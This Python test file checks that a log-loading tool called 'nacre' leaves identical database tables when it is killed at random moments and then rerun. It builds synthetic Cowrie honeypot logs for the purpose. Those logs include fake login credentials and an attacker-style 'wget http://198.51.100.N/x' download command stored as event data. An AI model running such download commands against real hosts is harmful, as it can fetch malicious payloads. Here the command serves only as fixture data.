"""kill -9 of a real `nacre load` at random moments, then the same command again: the tables of an undisturbed load."""

from __future__ import annotations

import gzip
import json
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
from contextlib import closing
from pathlib import Path

import pytest
from tests.logs import event

from nacre.store.snapshot import Snapshot, snapshot

NACRE = Path(sys.executable).parent / "nacre"
KILLS = int(os.environ.get("NACRE_KILLS", "30"))
SEED = int(os.environ.get("NACRE_SEED", "20261124"))
FILES, SESSIONS = 3, 2500


def write_logs(folder: Path) -> Path:
    """Write three logs whose sessions span files; one is packed, one ends in a torn line."""
    logs = folder / "logs"
    logs.mkdir()
    for number in range(FILES):
        lines = []
        for index in range(SESSIONS):
            session, second = f"{index:012x}", number * 20_000 + index * 7
            lines.append(event("session.connect", session, second, dst_ip="10.0.0.1", dst_port=22))
            lines.append(
                event("login.success", session, second + 1, username=f"u{index % 97}", password=f"p{index % 31}")
            )
            lines.append(event("command.input", session, second + 2, input=f"wget http://198.51.100.{index % 250}/x"))
            lines.append(event("session.closed", session, second + 3, duration_ms=index))
        content = b"\n".join(lines) + b"\n" + (b'{"eventid":"cowrie.session.clo' if number == 1 else b"")
        path = logs / f"cowrie.json.{3 - number}{'.gz' if number == 1 else ''}"
        path.write_bytes(gzip.compress(content) if number == 1 else content)
    return logs


def command(store: Path, logs: Path) -> list[str]:
    """Return the real command line."""
    return [str(NACRE), "--store", str(store), "load", "--json", "--jobs", "1", str(logs)]


def environment(folder: Path) -> dict[str, str]:
    """Return an environment in which batches are small, so that a kill falls into any part of one."""
    return {**os.environ, "NACRE_BATCH_BYTES": "65536", "HOME": str(folder)}


def tables(store: Path) -> Snapshot:
    """Return what a store holds."""
    with closing(sqlite3.connect(store)) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        return snapshot(connection)


@pytest.fixture(scope="module")
def undisturbed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Snapshot, float]:
    """Load once without disturbance: the logs, the tables, and how long it took."""
    folder = tmp_path_factory.mktemp("undisturbed")
    logs = write_logs(folder)
    started = time.monotonic()
    done = subprocess.run(command(folder / "a.db", logs), env=environment(folder), capture_output=True, check=True)
    seconds = time.monotonic() - started
    receipt = json.loads(done.stdout)
    assert (FILES * SESSIONS * 4, 1) == (receipt["stored"], receipt["rejected"])
    return logs, tables(folder / "a.db"), seconds


@pytest.mark.parametrize("turn", range(KILLS))
def test_kill_and_rerun(turn: int, undisturbed: tuple[Path, Snapshot, float], tmp_path: Path) -> None:
    """Killed up to three times at random moments and run again to the end, a load leaves equal tables."""
    logs, expected, seconds = undisturbed
    chance = random.Random(SEED + turn)
    store = tmp_path / "killed.db"
    for _ in range(chance.randint(1, 3)):
        with subprocess.Popen(
            command(store, logs),
            env=environment(tmp_path),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        ) as running:
            time.sleep(chance.uniform(0.05, seconds))
            running.send_signal(signal.SIGKILL)
    subprocess.run(command(store, logs), env=environment(tmp_path), stdout=subprocess.DEVNULL, check=True)
    recount = [str(NACRE), "--store", str(store), "account", "--recount", "--json"]
    account = subprocess.run(recount, capture_output=True, check=False)

    assert expected == tables(store)
    assert (0, True) == (account.returncode, json.loads(account.stdout)["balanced"])
